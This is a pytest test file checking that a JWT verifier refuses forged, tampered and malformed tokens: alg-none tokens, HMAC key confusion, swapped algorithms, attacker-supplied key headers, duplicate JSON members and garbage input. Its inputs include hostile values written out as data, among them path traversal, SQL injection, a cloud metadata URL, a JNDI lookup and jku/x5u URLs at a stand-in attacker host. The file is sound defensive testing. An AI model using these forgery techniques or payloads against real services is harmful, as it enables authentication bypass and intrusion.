"""The JWT attack corpus: forged, confused, tampered and garbage tokens, each refused with its own exception.

Every token here is built by hand (see jws.py). The verifier holds Rotor-shaped
public keys for every supported algorithm; the attacker holds only those
public keys, tokens it has seen, and keys of its own.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import json
import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from rotor_client import (
    InvalidIssuer,
    InvalidSignature,
    InvalidTokenError,
    KeyRevoked,
    TokenExpired,
    UnknownKey,
    Verifier,
)
from rotor_client.errors import MalformedToken
from rotor_client.verifier import MAX_TOKEN_LENGTH

from .jws import (
    ALGORITHMS,
    ISSUER,
    NOW,
    SigningKey,
    b64,
    b64json,
    claims_for,
    forge,
    header_for,
    self_signed_certificate,
    sign_parts,
    signing_key,
    static_cache,
    token,
    verifier_over,
)

ED, ES, RS, PS = (signing_key(alg) for alg in ("EdDSA", "ES256", "RS256", "PS256"))
REVOKED = signing_key("EdDSA", "revoked-key")
ATTACKER = signing_key("EdDSA", "attacker-key")  # the attacker's own key pair, never in the set
ATTACKER_RSA = signing_key("RS256", "attacker-rsa")
ATTACKER_EC = signing_key("ES256", "attacker-ec")


@pytest.fixture
def verifier() -> Verifier:
    """Rotor's keys for every algorithm; REVOKED was revoked (and so left the set)."""
    cache = static_cache(*(signing_key(alg) for alg in ALGORITHMS))
    cache.revoke_key(REVOKED.kid, NOW - 60)
    return verifier_over(cache=cache)


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Any attempt to resolve or connect fails the test (and is recorded), proving nothing is fetched."""
    attempts: list[str] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        attempts.append(repr(args)[:80])
        raise AssertionError("verify tried to reach the network")

    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    yield attempts


def parts(signed: str) -> tuple[str, str, str]:
    header, payload, signature = signed.split(".")
    return header, payload, signature


def raw(text: str) -> str:
    """base64url of a JSON text written by hand (for duplicate members, NaN, odd shapes)."""
    return b64(text.encode())


def hs256(secret: bytes, header_b64: str, payload_b64: str) -> str:
    mac = hmac.new(secret, f"{header_b64}.{payload_b64}".encode(), hashlib.sha256).digest()
    return f"{header_b64}.{payload_b64}.{b64(mac)}"


# -- alg none ---------------------------------------------------------------------------------


@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE"])
def test_alg_none_without_a_signature_is_refused(verifier: Verifier, alg: str) -> None:
    """An unsecured JWS (alg none, empty signature) naming a real kid raises InvalidSignature."""
    header, payload = b64json(header_for(ED, alg=alg)), b64json(claims_for(sub="admin"))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{payload}.")


def test_alg_none_with_the_signature_part_left_off_is_refused(verifier: Verifier) -> None:
    """alg none as two parts ("header.payload", no trailing dot) is MalformedToken."""
    header, payload = b64json(header_for(ED, alg="none")), b64json(claims_for())
    with pytest.raises(MalformedToken):
        verifier.verify(f"{header}.{payload}")


def test_alg_none_carrying_a_real_signature_is_refused(verifier: Verifier) -> None:
    """alg none with a signature lifted from a genuine token is still InvalidSignature."""
    _, payload, signature = parts(token(ED))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{b64json(header_for(ED, alg='none'))}.{payload}.{signature}")


def test_alg_none_without_a_kid_is_refused(verifier: Verifier) -> None:
    """alg none naming no key at all is MalformedToken (every Rotor token names its key)."""
    header = b64json({"alg": "none", "typ": "at+jwt"})
    with pytest.raises(MalformedToken):
        verifier.verify(f"{header}.{b64json(claims_for())}.")


# -- HS256 with the public key as the secret ----------------------------------------------------


@pytest.mark.parametrize("key", [RS, ES, ED], ids=lambda k: k.alg)
def test_hs256_signed_with_the_public_key_pem_is_refused(verifier: Verifier, key: SigningKey) -> None:
    """The classic confusion: HS256 keyed with the PEM of the published public key is InvalidSignature."""
    pem = key.private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    header, payload = b64json(header_for(key, alg="HS256")), b64json(claims_for(sub="admin"))
    with pytest.raises(InvalidSignature):
        verifier.verify(hs256(pem, header, payload))


@pytest.mark.parametrize("key", [RS, ES, ED], ids=lambda k: k.alg)
def test_hs256_signed_with_the_public_jwk_json_is_refused(verifier: Verifier, key: SigningKey) -> None:
    """HS256 keyed with the published JWK (as JSON text, compact or as served) is InvalidSignature."""
    header, payload = b64json(header_for(key, alg="HS256")), b64json(claims_for(sub="admin"))
    for secret in (json.dumps(key.jwk), json.dumps(key.jwk, separators=(",", ":"))):
        with pytest.raises(InvalidSignature):
            verifier.verify(hs256(secret.encode(), header, payload))


@pytest.mark.parametrize("alg", ["HS384", "HS512"])
def test_other_hmac_algorithms_keyed_with_the_public_key_are_refused(verifier: Verifier, alg: str) -> None:
    """HS384/HS512 keyed with the public key's PEM are InvalidSignature too."""
    pem = RS.private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    digest = {"HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    header, payload = b64json(header_for(RS, alg=alg)), b64json(claims_for())
    mac = hmac.new(pem, f"{header}.{payload}".encode(), digest).digest()
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{payload}.{b64(mac)}")


# -- another asymmetric algorithm than the key's ------------------------------------------------


def test_an_rs256_token_naming_an_es256_key_is_refused(verifier: Verifier) -> None:
    """Header alg RS256 with the ES256 key's kid (signed with the attacker's RSA key) is InvalidSignature."""
    forged = forge(ATTACKER_RSA, header=header_for(ES, alg="RS256"))
    with pytest.raises(InvalidSignature):
        verifier.verify(forged)


def test_a_ps256_token_naming_an_rs256_key_is_refused(verifier: Verifier) -> None:
    """A PSS signature by the very RS256 key, under header alg PS256, is InvalidSignature: one key, one alg."""
    forged = forge(RS, header=header_for(RS, alg="PS256"), alg="PS256")
    with pytest.raises(InvalidSignature):
        verifier.verify(forged)


def test_an_rs256_token_naming_a_ps256_key_is_refused(verifier: Verifier) -> None:
    """The reverse: a PKCS#1 v1.5 signature by the PS256 key under header alg RS256 is InvalidSignature."""
    forged = forge(PS, header=header_for(PS, alg="RS256"), alg="RS256")
    with pytest.raises(InvalidSignature):
        verifier.verify(forged)


def test_an_es256_token_naming_an_eddsa_key_is_refused(verifier: Verifier) -> None:
    """Header alg ES256 with the EdDSA key's kid (signed with the attacker's EC key) is InvalidSignature."""
    forged = forge(ATTACKER_EC, header=header_for(ED, alg="ES256"))
    with pytest.raises(InvalidSignature):
        verifier.verify(forged)


def test_an_es384_token_naming_an_es256_key_is_refused(verifier: Verifier) -> None:
    """A same-family swap (ES384 header on the ES256 key) is InvalidSignature."""
    forged = forge(signing_key("ES384"), header=header_for(ES, alg="ES384"))
    with pytest.raises(InvalidSignature):
        verifier.verify(forged)


@pytest.mark.parametrize("alg", ["eddsa", "EDDSA", "Ed25519", "EdDSA ", 0, None])
def test_an_alg_that_is_not_exactly_the_keys_is_refused(verifier: Verifier, alg: Any) -> None:
    """alg must equal the key's own algorithm exactly; a look-alike is InvalidSignature, a non-string MalformedToken."""
    forged = forge(ED, header=header_for(ED) | {"alg": alg})
    expected = InvalidSignature if isinstance(alg, str) else MalformedToken
    with pytest.raises(expected):
        verifier.verify(forged)


# -- tampering ---------------------------------------------------------------------------------


@pytest.mark.parametrize("alg", ALGORITHMS)
@pytest.mark.parametrize(
    "change",
    [
        pytest.param({"sub": "admin"}, id="sub"),
        pytest.param({"exp": int(NOW) + 10 * 365 * 86400}, id="exp"),
        pytest.param({"scope": "orders.read orders.write admin"}, id="scope"),
        pytest.param({"aud": ["api", "billing"]}, id="aud"),
    ],
)
def test_a_tampered_payload_with_the_original_signature_is_refused(
    verifier: Verifier, alg: str, change: dict[str, Any]
) -> None:
    """Changing any claim and keeping the signature is InvalidSignature, even with the header cached."""
    key = signing_key(alg)
    genuine = token(key)
    assert verifier.verify(genuine).sub == "svc-orders"  # its header is now in the verifier's cache
    header, _, signature = parts(genuine)
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{b64json(claims_for(**change))}.{signature}")


def test_a_payload_re_encoded_differently_with_the_original_signature_is_refused(verifier: Verifier) -> None:
    """The same claims serialised with other whitespace are other bytes: InvalidSignature."""
    header, _, signature = parts(token(ED))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{b64(json.dumps(claims_for(), indent=1).encode())}.{signature}")


@pytest.mark.parametrize(
    "change",
    [
        pytest.param({"x": 1}, id="added-member"),
        pytest.param({"typ": "application/at+jwt"}, id="typ-rewritten"),
        pytest.param({"cty": "JWT"}, id="cty-added"),
    ],
)
def test_a_tampered_header_with_the_original_signature_is_refused(
    verifier: Verifier, change: dict[str, Any]
) -> None:
    """An altered header (a member added or changed, even harmlessly) with the original signature is
    InvalidSignature."""
    _, payload, signature = parts(token(ED))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{b64json(header_for(ED, **change))}.{payload}.{signature}")


def test_a_header_pointed_at_another_key_with_the_original_signature_is_refused(verifier: Verifier) -> None:
    """Re-pointing kid at another key of the same algorithm keeps the signature from verifying."""
    other = signing_key("EdDSA", "second-eddsa")
    verifier_two = verifier_over(ED, other)
    _, payload, signature = parts(token(ED))
    with pytest.raises(InvalidSignature):
        verifier_two.verify(f"{b64json(header_for(other))}.{payload}.{signature}")


# -- the signature part ------------------------------------------------------------------------


@pytest.mark.parametrize("alg", ALGORITHMS)
@pytest.mark.parametrize(
    "cut",
    [
        pytest.param(lambda s: s[:-4], id="last-3-bytes"),
        pytest.param(lambda s: s[: len(s) // 2 // 4 * 4], id="half"),
        pytest.param(lambda s: s[4:], id="first-3-bytes"),
    ],
)
def test_a_truncated_signature_is_refused(verifier: Verifier, alg: str, cut: Callable[[str], str]) -> None:
    """A signature with whole bytes cut off is InvalidSignature."""
    header, payload, signature = parts(token(signing_key(alg)))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{payload}.{cut(signature)}")


def test_a_signature_one_character_short_is_refused(verifier: Verifier) -> None:
    """A signature whose length no base64url text can have (4n+1 characters) is MalformedToken."""
    header, payload, signature = parts(token(ED))
    assert len(signature) % 4 == 2  # 64 bytes: 86 characters
    with pytest.raises(MalformedToken):
        verifier.verify(f"{header}.{payload}.{signature[:-1]}")


@pytest.mark.parametrize("alg", ALGORITHMS)
def test_an_empty_signature_is_refused(verifier: Verifier, alg: str) -> None:
    """header.payload. with a genuine header and payload is InvalidSignature."""
    header, payload, _ = parts(token(signing_key(alg)))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{payload}.")


@pytest.mark.parametrize("alg", ALGORITHMS)
def test_the_signature_of_another_token_is_refused(verifier: Verifier, alg: str) -> None:
    """A genuine signature by the same key, but over another token, is InvalidSignature."""
    key = signing_key(alg)
    header, payload, _ = parts(token(key, sub="admin", jti="mine"))
    *_, signature = parts(token(key))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{payload}.{signature}")


def test_a_signature_of_zero_bytes_of_the_right_length_is_refused(verifier: Verifier) -> None:
    """An all-zero signature (r = s = 0 for ECDSA) is InvalidSignature for every algorithm."""
    for alg in ALGORITHMS:
        key = signing_key(alg)
        header, payload, signature = parts(token(key))
        zeros = b64(bytes(len(base64.urlsafe_b64decode(signature + "=="))))
        with pytest.raises(InvalidSignature):
            verifier.verify(f"{header}.{payload}.{zeros}")


@pytest.mark.parametrize(
    "mangle",
    [
        pytest.param(lambda s: s[:40] + "!!!!" + s[40:], id="bangs-inside"),
        pytest.param(lambda s: s + "~~~~", id="tildes-appended"),
        pytest.param(lambda s: s[:40] + "    " + s[40:], id="spaces-inside"),
        pytest.param(lambda s: s + "=", id="padding-appended"),
        pytest.param(lambda s: s.replace("-", "+").replace("_", "/") + "+", id="standard-alphabet"),
    ],
)
def test_a_signature_with_characters_outside_base64url_is_refused(
    verifier: Verifier, mangle: Callable[[str], str]
) -> None:
    """A signature part with any character outside [A-Za-z0-9_-] is MalformedToken, never accepted as
    if the stray characters were not there (that would make one token verify under many spellings)."""
    header, payload, signature = parts(token(ED))
    with pytest.raises(MalformedToken):
        verifier.verify(f"{header}.{payload}.{mangle(signature)}")


def test_a_header_with_characters_outside_base64url_is_refused(verifier: Verifier) -> None:
    """A header part with stray non-base64url characters is MalformedToken, even signed over as it is."""
    header = b64json(header_for(ED))
    forged = sign_parts(ED, header[:10] + "!!!!" + header[10:], b64json(claims_for()))
    with pytest.raises(MalformedToken):
        verifier.verify(forged)


# -- kid ---------------------------------------------------------------------------------------


def test_a_kid_pointing_at_a_revoked_key_is_refused(verifier: Verifier) -> None:
    """A token genuinely signed by a key since revoked raises KeyRevoked."""
    with pytest.raises(KeyRevoked):
        verifier.verify(token(REVOKED))


def test_a_kid_of_the_attackers_own_key_is_refused(verifier: Verifier) -> None:
    """A token signed by a key Rotor never published raises UnknownKey."""
    with pytest.raises(UnknownKey):
        verifier.verify(token(ATTACKER))


@pytest.mark.parametrize(
    "kid",
    [
        pytest.param("../../etc/passwd", id="path-traversal"),
        pytest.param("/dev/null", id="absolute-path"),
        pytest.param("' OR 1=1 --", id="sql-injection"),
        pytest.param("x'; DROP TABLE keys; --", id="sql-drop"),
        pytest.param("http://169.254.169.254/latest/meta-data", id="url"),
        pytest.param("${jndi:ldap://attacker.example/a}", id="jndi"),
        pytest.param("eddsa-key\x00", id="nul-suffix"),
        pytest.param("EDDSA-KEY", id="case-variant"),
        pytest.param(" eddsa-key", id="space-prefix"),
        pytest.param("k" * 5000, id="very-long"),
    ],
)
def test_a_hostile_kid_is_an_unknown_key(verifier: Verifier, kid: str, no_network: list[str]) -> None:
    """kid is only ever a dictionary key: traversal, SQL, URLs and look-alikes are UnknownKey, and nothing
    is read or fetched."""
    with pytest.raises(UnknownKey) as caught:
        verifier.verify(forge(ATTACKER, header=header_for(ATTACKER, kid=kid)))
    assert len(str(caught.value)) < 1000  # the message quotes a short prefix, not the whole kid
    assert no_network == []


@pytest.mark.parametrize(
    "kid",
    [
        pytest.param(7, id="number"),
        pytest.param(["eddsa-key"], id="list"),
        pytest.param({"kid": "eddsa-key"}, id="object"),
        pytest.param(True, id="bool"),
        pytest.param("", id="empty"),
    ],
)
def test_a_kid_that_is_not_a_non_empty_string_is_malformed(verifier: Verifier, kid: Any) -> None:
    """A number, list, object, bool or empty kid is MalformedToken (and never looked up)."""
    with pytest.raises(MalformedToken):
        verifier.verify(forge(ED, header=header_for(ED) | {"kid": kid}))


def test_a_null_kid_is_malformed(verifier: Verifier) -> None:
    """kid: null, written explicitly in the header, is MalformedToken."""
    header = raw('{"alg":"EdDSA","kid":null,"typ":"at+jwt"}')
    with pytest.raises(MalformedToken):
        verifier.verify(sign_parts(ED, header, b64json(claims_for())))


def test_a_missing_kid_is_malformed(verifier: Verifier) -> None:
    """A genuinely signed token whose header names no key is MalformedToken (no trying every key)."""
    with pytest.raises(MalformedToken):
        verifier.verify(forge(ED, header=header_for(ED, kid=None)))


# -- headers that ask the verifier to trust or fetch something ------------------------------------


def test_a_crit_header_is_refused(verifier: Verifier) -> None:
    """A genuinely signed token with crit (an extension the verifier would have to understand) is
    MalformedToken."""
    for crit in (["exp"], ["b64"], [], "b64"):
        with pytest.raises(MalformedToken):
            verifier.verify(forge(ED, header=header_for(ED, crit=crit, b64=False)))


def test_a_jku_header_is_refused_and_never_fetched(verifier: Verifier, no_network: list[str]) -> None:
    """jku naming the attacker's JWKS is MalformedToken, without any network access."""
    forged = forge(ATTACKER, header=header_for(ATTACKER, jku="https://attacker.example/jwks.json"))
    with pytest.raises(MalformedToken):
        verifier.verify(forged)
    with pytest.raises(MalformedToken):  # even on a token Rotor's own key signed
        verifier.verify(forge(ED, header=header_for(ED, jku="https://rotor.test/jwks.json")))
    assert no_network == []


def test_an_x5u_header_is_refused_and_never_fetched(verifier: Verifier, no_network: list[str]) -> None:
    """x5u naming the attacker's certificate URL is MalformedToken, without any network access."""
    forged = forge(ATTACKER, header=header_for(ATTACKER, x5u="https://attacker.example/cert.pem"))
    with pytest.raises(MalformedToken):
        verifier.verify(forged)
    assert no_network == []


@pytest.mark.parametrize("kid", ["attacker-key", "eddsa-key"], ids=["own-kid", "rotors-kid"])
def test_an_embedded_jwk_header_is_refused(verifier: Verifier, kid: str) -> None:
    """A token carrying the attacker's own public key in jwk, and signed with it, is MalformedToken,
    whichever kid it names."""
    header = header_for(ATTACKER, kid=kid, jwk={**ATTACKER.jwk, "kid": kid})
    with pytest.raises(MalformedToken):
        verifier.verify(forge(ATTACKER, header=header))


def test_an_x5c_header_is_refused(verifier: Verifier) -> None:
    """A token carrying a certificate chain in x5c (the attacker's self-signed certificate) is
    MalformedToken."""
    der = self_signed_certificate("attacker").public_bytes(serialization.Encoding.DER)
    chain = [base64.b64encode(der).decode()]
    with pytest.raises(MalformedToken):
        verifier.verify(forge(ATTACKER_EC, header=header_for(ATTACKER_EC, kid=ES.kid, x5c=chain)))


# -- duplicate JSON members ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        pytest.param('{"alg":"none","kid":"eddsa-key","typ":"at+jwt","alg":"EdDSA"}', id="two-alg"),
        pytest.param('{"alg":"EdDSA","kid":"attacker-key","typ":"at+jwt","kid":"eddsa-key"}', id="two-kid"),
        pytest.param('{"alg":"EdDSA","kid":"eddsa-key","typ":"JWT","typ":"at+jwt"}', id="two-typ"),
    ],
)
def test_duplicate_members_in_the_header_are_refused(verifier: Verifier, header: str) -> None:
    """A header naming a member twice (parsers disagree on which wins) is MalformedToken, even when
    genuinely signed."""
    with pytest.raises(MalformedToken):
        verifier.verify(sign_parts(ED, raw(header), b64json(claims_for())))


@pytest.mark.parametrize("member", ["sub", "exp", "aud", "iss", "scope"])
def test_duplicate_members_in_the_payload_are_refused(verifier: Verifier, member: str) -> None:
    """A genuinely signed payload naming a claim twice is MalformedToken."""
    claims = json.dumps(claims_for(), separators=(",", ":"))
    second = {"sub": '"admin"', "exp": "9999999999", "aud": '"billing"', "iss": '"https://x"'}
    payload = claims[:-1] + f',"{member}":' + second.get(member, '"admin"') + "}"
    with pytest.raises(MalformedToken):
        verifier.verify(sign_parts(ED, b64json(header_for(ED)), raw(payload)))


def test_duplicate_members_in_a_nested_claim_are_refused(verifier: Verifier) -> None:
    """A duplicate inside a nested object (cnf naming two thumbprints) is MalformedToken."""
    claims = json.dumps(claims_for(), separators=(",", ":"))
    payload = claims[:-1] + ',"cnf":{"x5t#S256":"a","x5t#S256":"b"}}'
    with pytest.raises(MalformedToken):
        verifier.verify(sign_parts(ED, b64json(header_for(ED)), raw(payload)))


# -- size ----------------------------------------------------------------------------------------


def test_an_oversized_token_is_refused_even_when_genuinely_signed(verifier: Verifier) -> None:
    """A token over 16 KiB is MalformedToken before any parsing, signature or not."""
    big = token(ED, padding="p" * (MAX_TOKEN_LENGTH * 3 // 4))
    assert len(big) > MAX_TOKEN_LENGTH
    with pytest.raises(MalformedToken):
        verifier.verify(big)
    with pytest.raises(MalformedToken):
        verifier.verify("a" * (10 * 1024 * 1024))


def test_a_token_just_under_the_limit_still_verifies(verifier: Verifier) -> None:
    """The limit does not bite a genuine token with large claims below 16 KiB."""
    fits = token(ED, padding="p" * 11_000)
    assert len(fits) <= MAX_TOKEN_LENGTH
    assert len(verifier.verify(fits)["padding"]) == 11_000


def test_a_huge_header_is_refused(verifier: Verifier) -> None:
    """A header alone over 16 KiB (a giant member) is MalformedToken."""
    huge = b64json(header_for(ED, x="h" * MAX_TOKEN_LENGTH))
    with pytest.raises(MalformedToken):
        verifier.verify(f"{huge}.{b64json(claims_for())}.sig")


# -- claims of the wrong kind, genuinely signed ------------------------------------------------------


def test_an_expired_but_validly_signed_token_is_refused(verifier: Verifier) -> None:
    """A genuine token replayed after its exp (and the leeway) raises TokenExpired."""
    with pytest.raises(TokenExpired):
        verifier.verify(token(ES, iat=int(NOW) - 7200, nbf=int(NOW) - 7200, exp=int(NOW) - 3600))


def test_a_token_signed_by_a_known_key_for_another_issuer_is_refused(verifier: Verifier) -> None:
    """A key in the set vouches only for its issuer: a token claiming another iss raises InvalidIssuer."""
    for iss in ("https://evil.test", ISSUER + "/", ISSUER.upper(), ""):
        with pytest.raises(InvalidIssuer):
            verifier.verify(token(RS, iss=iss))


@pytest.mark.parametrize(
    ("claim", "value"),
    [
        pytest.param("exp", '"9999999999"', id="exp-string"),
        pytest.param("nbf", '"0"', id="nbf-string"),
        pytest.param("exp", "true", id="exp-true"),
        pytest.param("exp", "false", id="exp-false"),
        pytest.param("nbf", "false", id="nbf-false"),
        pytest.param("exp", "null", id="exp-null"),
        pytest.param("exp", "[9999999999]", id="exp-list"),
        pytest.param("exp", '{"n":9999999999}', id="exp-object"),
        pytest.param("exp", "NaN", id="exp-NaN"),
        pytest.param("exp", "Infinity", id="exp-Infinity"),
        pytest.param("nbf", "NaN", id="nbf-NaN"),
        pytest.param("iat", '"now"', id="iat-string"),
        pytest.param("iat", "true", id="iat-true"),
    ],
)
def test_a_time_claim_that_is_not_a_json_number_is_malformed(
    verifier: Verifier, claim: str, value: str
) -> None:
    """exp, nbf and iat must be JSON numbers: a string, bool, null, container or non-JSON NaN/Infinity
    in a genuinely signed token is MalformedToken (never "valid forever")."""
    claims = claims_for()
    claims[claim] = "@"
    payload = json.dumps(claims, separators=(",", ":")).replace('"@"', value)
    with pytest.raises(MalformedToken):
        verifier.verify(sign_parts(ED, b64json(header_for(ED)), raw(payload)))


# -- garbage -------------------------------------------------------------------------------------


def _genuine() -> tuple[str, str, str]:
    return parts(token(ED))


def _signed_payload(text: str | bytes) -> str:
    data = text.encode() if isinstance(text, str) else text
    return sign_parts(ED, b64json(header_for(ED)), b64(data))


def _signed_claims(**members: Any) -> str:
    return token(ED, **members)


def _garbage() -> dict[str, Callable[[], Any]]:
    h, p, s = _genuine()
    nested_arrays = "[" * 5000 + "]" * 5000
    nested_objects = '{"a":' * 1500 + "1" + "}" * 1500
    invalid_utf8, json_string = b64(b"\xff\xfe{}"), raw('"at+jwt"')
    return {
        # not a string at all
        "none": lambda: None,
        "bytes": lambda: ".".join(_genuine()).encode(),
        "int": lambda: 12345,
        "list": lambda: list(_genuine()),
        "dict": lambda: {"token": ".".join(_genuine())},
        # the wrong number of parts
        "empty": lambda: "",
        "dot": lambda: ".",
        "two-dots": lambda: "..",
        "three-dots": lambda: "...",
        "one-part": lambda: h,
        "two-parts": lambda: f"{h}.{p}",
        "four-parts": lambda: f"{h}.{p}.{s}.{s}",
        "five-parts-jwe-shaped": lambda: f"{h}.{p}.{s}.{p}.{s}",
        "bearer-prefix": lambda: f"Bearer {h}.{p}.{s}",
        "bearer-lowercase": lambda: f"bearer {h}.{p}.{s}",
        "leading-space": lambda: f" {h}.{p}.{s}",
        "unicode-dots": lambda: f"{h}\u2024{p}\u2024{s}",
        # parts that are not base64url JSON
        "not-base64": lambda: "!!!.###.$$$",
        "percent-encoded": lambda: "%7B%7D.%7B%7D.%7B%7D",
        "non-ascii-header": lambda: f"é{h}.{p}.{s}",
        "non-ascii-payload": lambda: f"{h}.{p}é.{s}",
        "non-ascii-signature": lambda: f"{h}.{p}.{s}é",
        "emoji-payload": lambda: f"{h}.\U0001f600.{s}",
        "nul-in-payload": lambda: f"{h}.{p}\x00.{s}",
        "invalid-utf8-header": lambda: f"{invalid_utf8}.{p}.{s}",
        "invalid-utf8-payload": lambda: _signed_payload(b'{"sub":"\xc3\x28"}'),
        "header-not-json": lambda: f"{raw('alg=EdDSA')}.{p}.{s}",
        "header-array": lambda: f"{raw('[]')}.{p}.{s}",
        "header-number": lambda: f"{raw('42')}.{p}.{s}",
        "header-string": lambda: f"{json_string}.{p}.{s}",
        "header-null": lambda: f"{raw('null')}.{p}.{s}",
        "header-empty-object": lambda: f"{raw('{}')}.{p}.{s}",
        "header-huge-number": lambda: f"{raw('9' * 5000)}.{p}.{s}",
        "header-nested-arrays": lambda: f"{raw(nested_arrays[:2000] + nested_arrays[-2000:])}.{p}.{s}",
        "header-nested-objects": lambda: f"{raw(nested_objects)}.{p}.{s}",
        "header-trailing-garbage": lambda: f"{raw('{}x')}.{p}.{s}",
        "header-two-documents": lambda: f"{raw('{}{}')}.{p}.{s}",
        # headers Rotor never writes
        "alg-missing": lambda: forge(ED, header=header_for(ED, alg=None)),
        "alg-list": lambda: forge(ED, header=header_for(ED) | {"alg": ["EdDSA"]}),
        "typ-object": lambda: forge(ED, header=header_for(ED) | {"typ": {"t": "at+jwt"}}),
        "kid-float": lambda: forge(ED, header=header_for(ED) | {"kid": 1.5}),
        # genuinely signed payloads of the wrong shape
        "payload-array": lambda: _signed_payload("[]"),
        "payload-number": lambda: _signed_payload("1800000000"),
        "payload-string": lambda: _signed_payload('"claims"'),
        "payload-null": lambda: _signed_payload("null"),
        "payload-empty": lambda: _signed_payload(""),
        "payload-not-json": lambda: _signed_payload("sub=admin"),
        "payload-nested-arrays": lambda: _signed_payload(nested_arrays[:2500] + nested_arrays[-2500:]),
        "payload-nested-objects": lambda: _signed_payload(nested_objects),
        "aud-number": lambda: _signed_claims(aud=42),
        "aud-object": lambda: _signed_claims(aud={"api": True}),
        "aud-null-in-list": lambda: _signed_claims(aud=[None, 1]),
        "cnf-list": lambda: _signed_claims(cnf=["x5t#S256"]),
        "exp-far-past": lambda: _signed_claims(exp=-(10**30)),
        "nbf-far-future": lambda: _signed_claims(nbf=10**30),
        "exp-minus-infinity": lambda: _signed_payload(
            json.dumps(claims_for(exp="@")).replace('"@"', "-Infinity")
        ),
        "nbf-infinity": lambda: _signed_payload(json.dumps(claims_for(nbf="@")).replace('"@"', "Infinity")),
    }


GARBAGE = _garbage()


@pytest.mark.parametrize("case", list(GARBAGE))
def test_garbage_raises_only_invalid_token_errors(verifier: Verifier, case: str) -> None:
    """Whatever arrives as a token, verify raises an InvalidTokenError subclass and nothing else
    (no ValueError, RecursionError, OverflowError, TypeError... escaping to the caller)."""
    garbage = GARBAGE[case]()
    with pytest.raises(InvalidTokenError) as caught:
        verifier.verify(garbage)
    assert caught.value.reason and str(caught.value)


def test_garbage_never_corrupts_the_verifier(verifier: Verifier) -> None:
    """After the whole garbage corpus, a genuine token still verifies and a forged one is still refused."""
    for make in GARBAGE.values():
        # the garbage test pins the exception types; here only what follows matters
        with contextlib.suppress(Exception):
            verifier.verify(make())
    assert verifier.verify(token(ED)).sub == "svc-orders"
    header, _, signature = parts(token(ED))
    with pytest.raises(InvalidSignature):
        verifier.verify(f"{header}.{b64json(claims_for(sub='admin'))}.{signature}")
